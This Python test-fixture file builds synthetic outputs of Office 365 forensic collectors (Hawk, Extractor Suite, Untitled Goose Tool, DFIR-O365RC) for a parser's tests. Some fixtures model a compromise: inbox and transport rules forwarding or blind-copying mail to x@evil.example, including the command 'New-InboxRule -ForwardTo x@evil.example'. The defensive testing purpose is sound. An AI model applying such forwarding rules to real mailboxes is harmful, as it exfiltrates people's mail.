"""Small files as other collectors write them, by the names and folders that they give them.

Written from the collectors' own code (see `o365nb/intake/collector_csv.py`, `goose.py`, `hawk_audit.py`): the people in
them do not exist.
"""

import json

from evidence import SUBJECT, audit, lines, signed_in
from exports import OAUTH_COLUMNS, PERMISSION, RULE, RULE_COLUMNS, table

BOB = "bob@contoso.example"
WHEN = "2026-11-17T08:41:00Z"
NET = "/Date(1794904860000)/"


def wrapped(number=1):
    """A record as Search-UnifiedAuditLog returns it."""
    return {"RecordType": "ExchangeItem", "CreationDate": NET, "UserIds": SUBJECT, "Operations": "Send",
            "AuditData": json.dumps(audit(number=number)), "ResultIndex": 1}  # fmt: skip


def clixml(*objects):
    """What Export-Clixml writes of Exchange's objects: names and values, one list, one enumeration."""

    def value(name, given):
        if isinstance(given, list):
            entries = "".join(f"<S>{entry}</S>" for entry in given)
            return (
                f'<Obj N="{name}" RefId="9{name}"><TN RefId="1"><T>System.Object[]</T></TN><LST>{entries}</LST></Obj>'
            )
        if given is None:
            return f'<Nil N="{name}" />'
        kind = {bool: "B", int: "I32", str: "S"}[type(given)]
        return f'<{kind} N="{name}">{str(given).lower() if kind == "B" else given}</{kind}>'

    listed = "".join(
        f'<Obj RefId="{number}"><TN RefId="0"><T>Deserialized.X</T></TN><ToString>x</ToString>'
        f"<Props>{''.join(value(*pair) for pair in data.items())}</Props></Obj>"
        for number, data in enumerate(objects)
    )
    namespace = "http://schemas.microsoft.com/powershell/2004/04"
    return f'<?xml version="1.0" encoding="utf-16"?>\r\n<Objs Version="1.1.0.1" xmlns="{namespace}">{listed}</Objs>'


def pascal(data):
    """An object of Graph's as its PowerShell modules write it: capitals, and everything that is not there as null."""
    if isinstance(data, list):
        return [pascal(entry) for entry in data]
    if not isinstance(data, dict):
        return data
    named = {name[:1].upper() + name[1:]: pascal(value) for name, value in data.items()}
    if "IpAddress" in named:
        named["IPAddress"] = named.pop("IpAddress")
    return {**named, "Extensions": None, "AdditionalProperties": {}}


TRANSPORT = {"Name": "Copy", "State": "Enabled", "Mode": "Enforce", "Priority": 0, "RuleErrorAction": "Ignore",
             "BlindCopyTo": ["x@evil.example"], "Conditions": None, "Description": "a_x000D__x000A_b"}  # fmt: skip
SIMPLE = {"RecordType": "ExchangeAdmin", "CreationDate": NET, "UserIds": SUBJECT, "Operations": "New-InboxRule",
          "AuditCreationTime": "2026-11-17T08:41:00", "AuditId": "00000000-0000-4000-8000-0000000000aa",
          "Operation": "New-InboxRule", "AuditRecordType": 1, "UserId": SUBJECT, "Workload": "Exchange",
          "ResultStatus": "True", "ClientIP": "203.0.113.9", "AADSessionId": "s-1", "Param_Name": ".",
          "Param_ForwardTo": "x@evil.example", "Parameters": "Name=. | ForwardTo=x@evil.example",
          "FullCommand": "New-InboxRule -Name . -ForwardTo x@evil.example"}  # fmt: skip
PERMISSIONS = {
    "UserPrincipalName": SUBJECT, "DisplayName": "Anna", "RecipientTypeDetails": "UserMailbox",
    "FullAccessUsers": f"Bob ({BOB})",
    "FullAccessPermissions": f"Bob ({BOB}) - Rights: FullAccess,ReadPermission, Deny: False, Inheritance: All"
                             " | S-1-5-21-1 - Rights: FullAccess, Deny: True, Inheritance: All",
    "SendAsPermissions": f"Bob - Rights: x ({BOB}) - Type: Allow, Rights: SendAs, Inheritance: None",
    "SendOnBehalfUsers": f"Bob ({BOB})", "CalendarUsers": f"Bob ({BOB}) - Editor", "InboxUsers": "",
}  # fmt: skip
GOOSE_RULE = {"id": "AQAAAJ5dZqA=", "displayName": ".", "sequence": 1, "isEnabled": True, "actions": {}}
USER = {"id": "u-1", "userPrincipalName": SUBJECT, "displayName": "Anna"}
AUDIT_ENTRY = {"id": "Directory_x_1_12345678", "activityDateTime": WHEN, "activityDisplayName": "Add application",
               "category": "ApplicationManagement", "result": "success"}  # fmt: skip

#: One small file for each of the shapes that only collectors have, with the kinds of its records.
COLLECTED = {
    "conditional-access-csv": (
        table("DisplayName,CreatedDateTime,Id,State,ClientAppTypes,BuiltInControls,TermsOfUse",
              {"DisplayName": "MFA", "Id": "p-1", "State": "enabled", "BuiltInControls": "mfa\r\n"}),
        ["conditional_access"],
    ),
    "exchange-mobile-device-csv": ("FirstSyncTime,DeviceId,DeviceOS\n2026-11-17 08:41:00,d-1,iOS 18\n",
                                   ["mobile_device"]),
    "exchange-sweep-rule-csv": (
        f"Name,Enabled,KeepForDays,SourceFolder,DestinationFolder,MailboxOwnerId\nx,True,0,Inbox,Trash,{SUBJECT}\n",
        ["sweep_rule"],
    ),
    "goose-children-json": (
        lines({"id": "m-1", "phoneNumber": "+1 5", "users": USER}, {"id": "o-1", "x": 1, "applications": {"id": "a"}},
              {"id": "u-2", "userPrincipalName": BOB, "directoryRoles": {"id": "r-1", "displayName": "Global Reader"}},
              {"issuerUri": "https://x.example", "signingCertificate": "c", "domains": {"id": "contoso.example"}}),
        ["auth_method", "role_assignment", "federation"],
    ),
    "goose-inbox-rules-json": (lines([GOOSE_RULE, {**GOOSE_RULE, "id": "B"}, {"userPrincipalName": SUBJECT}])
                               + lines([GOOSE_RULE, {"userPrincipalName": BOB}]), ["message_rule"] * 3),
    "group-members-csv": (
        table("GroupName,GroupId,MemberId,DisplayName,Email,UserPrincipalName,AddedDate,Permissions",
              {"GroupName": "Finance", "GroupId": "g-1", "MemberId": "u-1", "UserPrincipalName": SUBJECT}),
        ["membership"],
    ),
    "hawk-simple-audit-csv": (table(",".join(SIMPLE), SIMPLE), ["audit_record"]),
    "hawk-simple-audit-json": (json.dumps([SIMPLE]), ["audit_record"]),
    "licence-csv": (
        table("Sku,Status,Scope,Units,Retention,E3,E5,ServicePlans",
              {"Sku": "SPE_E5", "Status": "Enabled", "Units": "5", "ServicePlans": "AAD_PREMIUM; EXCHANGE_S"}),
        ["licence"],
    ),
    "mailbox-audit-status-csv": (
        f"UserPrincipalName,DisplayName,RecipientTypeDetails,AuditEnabled,AuditBypassEnabled\n{SUBJECT},A,UserMailbox,True,True\n",
        ["mailbox", "audit_bypass"],
    ),
    "mailbox-rights-csv": (table(",".join(PERMISSIONS), PERMISSIONS),
                           ["mailbox_permission"] * 4 + ["folder_permission"]),
    "powershell-clixml": (
        clixml(TRANSPORT, {"Name": "Default", "DomainName": "*", "AutoForwardEnabled": True}, {"Odd": "thing"}),
        ["transport_rule", "remote_domain"],
    ),
    "powershell-graph-json": (
        json.dumps([pascal(signed_in()), pascal({"id": "r-1", "riskLevel": "high", "riskState": "atRisk",
                                                 "riskLastUpdatedDateTime": WHEN, "userPrincipalName": SUBJECT})]),
        ["sign_in", "risky_user"],
    ),
    "risk-detection-csv": (
        table("Activity,ActivityDateTime,DetectedDateTime,IPAddress,Id,City,CountryOrRegion,RiskEventType,RiskLevel,"
              "UserId,UserPrincipalName,AdditionalProperties",
              {"Activity": "signin", "ActivityDateTime": "11/17/2026 8:41:00 AM", "IPAddress": "203.0.113.9",
               "DetectedDateTime": "11/17/2026 8:42:00 AM", "Id": "x" * 32, "City": "Lagos\r\n",
               "RiskEventType": "anonymizedIPAddress", "RiskLevel": "high", "UserPrincipalName": SUBJECT}),
        ["risk_detection"],
    ),
    "risky-user-csv": (
        table("History,Id,RiskDetail,RiskLastUpdatedDateTime,RiskLevel,RiskState,UserDisplayName,UserPrincipalName",
              {"History": "-", "Id": "u-1", "RiskLastUpdatedDateTime": WHEN, "RiskLevel": "high",
               "RiskState": "atRisk", "UserPrincipalName": SUBJECT}),
        ["risky_user"],
    ),
    "role-members-csv": (f"UserName,UserId,Role\n{SUBJECT},u-1,Exchange Administrator\n", ["role_assignment"]),
    "security-alert-csv": (
        table("Id,Title,Category,Severity,Status,CreatedDateTime,EventDateTime,AffectedUser,AffectedHost,Provider",
              {"Id": "a-1", "Title": "Unfamiliar sign-in", "Severity": "medium", "Status": "new",
               "CreatedDateTime": WHEN, "AffectedUser": f"{SUBJECT}/203.0.113.9; {BOB}/null", "Provider": "IPC"}),
        ["alert", "alert"],
    ),
}  # fmt: skip

#: What the tools leave behind, as it lies: the shape of each file, "" for one that is refused.
FOLDERS = {
    "Microsoft-Extractor-Suite": {
        "Output/UnifiedAuditLog/20261117084100/UAL-20261117.json": (
            json.dumps([wrapped()]), "extractor-suite-ual-json"),
        "Output/Rules/20261117-MailboxRules.csv": (table(RULE_COLUMNS, RULE), "exchange-inbox-rule-csv"),
        "Output/Rules/old_MailboxRules.csv": (
            ("UserName,RuleName,RuleEnabled,CopytoFolder,MovetoFolder,RedirectTo,ForwardTo,TextDescription\n"
            f"{SUBJECT},.,True,,Archive,,x@evil.example,If the message ...\n"), "exchange-inbox-rule-csv"),
        "Output/Rules/20261117-TransportRules.csv": (
            "Name,Description,CreatedBy,WhenChanged,State\nCopy,If ...,admin,2026-11-17 08:41:00,Enabled\n",
            "exchange-transport-rule-csv"),
        "Output/Mailbox Permissions/p.csv": (COLLECTED["mailbox-rights-csv"][0], "mailbox-rights-csv"),
        "Output/Audit Status/a.csv": (COLLECTED["mailbox-audit-status-csv"][0], "mailbox-audit-status-csv"),
        "Output/OAuthPermissions/o.csv": (table(OAUTH_COLUMNS, PERMISSION), "oauth-permissions-csv"),
        "Output/UserInfo/RiskyUsers.csv": (COLLECTED["risky-user-csv"][0], "risky-user-csv"),
        "Output/UserInfo/RiskyDetections.csv": (COLLECTED["risk-detection-csv"][0], "risk-detection-csv"),
        "Output/UserInfo/ConditionalAccessPolicy.csv": (
            COLLECTED["conditional-access-csv"][0], "conditional-access-csv"),
        "Output/UserInfo/Global Administrator.csv": (COLLECTED["role-members-csv"][0], "role-members-csv"),
        "Output/Roles/PIM-Assignments.csv": (
            table("RoleName,UserPrincipalName,AssignmentType,SourceType,SourceName,AssignmentStatus,StartDateTime,"
                  "EndDateTime,DirectoryScopeId",
                  {"RoleName": "Global Reader", "UserPrincipalName": BOB, "AssignmentType": "PIM Eligible",
                   "SourceType": "Direct", "EndDateTime": "Permanent", "DirectoryScopeId": "/"}), "role-members-csv"),
        "Output/SecurityAlerts/s.csv": (COLLECTED["security-alert-csv"][0], "security-alert-csv"),
        "Output/Licenses/TenantLicenses.csv": (COLLECTED["licence-csv"][0], "licence-csv"),
        "Output/Groups/GroupMembers.csv": (COLLECTED["group-members-csv"][0], "group-members-csv"),
        "Output/LogFile.txt": ("[INFO] Running Get-Users\n", ""),
    },
    "Hawk": {
        "Tenant/XML/TransportRules.xml": (clixml(TRANSPORT).encode("utf-16"), "powershell-clixml"),
        "Tenant/Consent_Grants.csv": (
            table("PermissionType,ClientObjectId,ClientDisplayName,ResourceObjectId,ResourceDisplayName,Permission,"
                  "ConsentType,PrincipalObjectId,PrincipalDisplayName,ConsentGrantRiskCategory",
                  {"PermissionType": "Delegated", "ClientObjectId": "sp-1", "ClientDisplayName": "eM Client",
                   "Permission": "Mail.Read", "ConsentType": "AllPrincipals"}), "oauth-permissions-csv"),
        "Tenant/RiskyUsers.json": (
            json.dumps(pascal({"id": "r", "riskLevel": "high", "riskState": "atRisk", "userPrincipalName": BOB,
                               "riskLastUpdatedDateTime": WHEN})), "powershell-graph-json"),
        f"{BOB}/InboxRules_bob.csv": (
            ("Name,Enabled,Priority,RuleIdentity,StopProcessingRules,Identity,MailboxOwnerId,MoveToFolder\n"
            ".,True,1,7,True,bob\\7,Bob,Archive\n"), "exchange-inbox-rule-csv"),
        f"{BOB}/XML/InboxRules_bob.xml": (
            clixml({"Name": "..", "Enabled": True, "RuleIdentity": "8", "ForwardTo": ["x@evil.example"]}),
            "powershell-clixml"),
        f"{BOB}/ForwardingReport_bob.csv": (
            ("DisplayName,UserPrincipalName,PrimarySMTPAddress,ForwardingSMTPAddress,ForwardingAddress,"
            f"DeliverToMailboxAndForward,WhenChangedUTC\nBob,{BOB},{BOB},smtp:x@evil.example,,True,\n"),
            "exchange-mailbox-csv"),
        f"{BOB}/MobileDevices_bob.csv": (COLLECTED["exchange-mobile-device-csv"][0], "exchange-mobile-device-csv"),
        f"{BOB}/Raw_Authentication_Logs_bob.json": (json.dumps(wrapped(2)), "extractor-suite-ual-json"),
        f"{BOB}/Simple_Admin_Audit_bob.csv": (COLLECTED["hawk-simple-audit-csv"][0], "hawk-simple-audit-csv"),
        f"{BOB}/EntraSignInLog_bob@contoso.example_bob.json": (
            json.dumps([pascal(signed_in())]), "powershell-graph-json"),
        f"{BOB}/Mailbox_Info_bob.txt": ("\r\nUserPrincipalName : bob@contoso.example\r\nAuditEnabled : True\r\n", ""),
        "_Investigate.txt": ("something", ""),
    },
    "Untitled Goose Tool": {
        "output/m365/ual_2026-11-16_2026-11-17.json": (json.dumps([audit()]), "management-activity-json"),
        "output/m365/EXO_InboxRules_Graph.json": (COLLECTED["goose-inbox-rules-json"][0], "goose-inbox-rules-json"),
        "output/m365/EXO_MailboxForwarding.json": (
            lines({"ForwardingAddress": None, "DeliverToMailboxAndForward": False, "ObjectId": "o",
                   "PrimarySmtpAddress": SUBJECT}), "exchange-mailbox-json"),
        "output/m365/EXO_TransportRules_PowerShell.json": (
            json.dumps(TRANSPORT) + "\r\n" + json.dumps(TRANSPORT), "exchange-transport-rule-json"),
        "output/entraid/signin_adfs/adfs_signin_log_2026-11-17.json": (lines(signed_in()), "graph-sign-in-json"),
        "output/entraid/entraid_audit_logs/entraidauditlog_2026-11-17.json": (
            lines(AUDIT_ENTRY), "graph-directory-audit-json"),
        "output/entraid/entraid_configs/users.json": (lines(USER), "graph-user-json"),
        "output/entraid/entraid_configs/users_methods.json": (
            COLLECTED["goose-children-json"][0], "goose-children-json"),
        "output/entraid/entraid_configs/oauth2PermissionGrants.json": (
            lines({"id": "g", "clientId": "c", "consentType": "Principal", "principalId": "u-1", "scope": "Mail.Read"}),
            "graph-oauth-grant-json"),
        "output/entraid/entraid_security/security_secureScores.json": (
            lines({"id": "s", "currentScore": 1, "maxScore": 2}), ""),
    },
    "DFIR-O365RC": {
        "azure_ad_signin/2026-11-17/AADSigninLog_contoso.example_2026-11-17_08-00-00.json": (
            "\ufeff" + json.dumps([signed_in()], indent=2), "graph-sign-in-json"),
        "azure_ad_audit/AADAuditLog_contoso.example_2026-11-17.json": (
            json.dumps(AUDIT_ENTRY), "graph-directory-audit-json"),
        "azure_ad_apps/AADApps_contoso.example.json": (
            json.dumps([{**AUDIT_ENTRY, "application_appId": "a", "application_id": "o"}]),
            "graph-directory-audit-json"),
        "azure_ad_tenant/AADTenant_contoso.example.json": (
            json.dumps({"id": "t", "verifiedDomains": [{"name": "contoso.example"}]}), "graph-organization-json"),
        "azure_ad_users/AADUsers_contoso.example.json": (
            json.dumps([{**USER, "userRegisteredAuthenticationMethods": [
                {"@odata.type": "#microsoft.graph.phoneAuthenticationMethod", "id": "p", "phoneNumber": "+1 5"}]}]),
            "graph-user-json"),
        "O365_unified_audit_logs/2026-11-17/UnifiedAuditLog_contoso.example_2026-11-17_08-00-00.json": (
            lines(audit(), audit(number=2)), "extractor-suite-ual-json"),
        "O365_unified_audit_logs_purview/2026-11-17/UnifiedAuditLogPurview_contoso.example_2026-11-17.json": (
            f"[\r\n{json.dumps([audit(number=3), audit(number=4)])}\r\n,\r\n{json.dumps([audit(number=5)])}\r\n]",
            "management-activity-json"),
        "azure_rm_activity/2026-11-17/AzRM_contoso.example_x.json": (
            json.dumps([{"eventTimestamp": WHEN, "caller": SUBJECT}]), ""),
        "Get-AADLogs.log": ("2026-11-17 08:41:00 - Info - Getting MSGraph Oauth token", ""),
    },
}  # fmt: skip
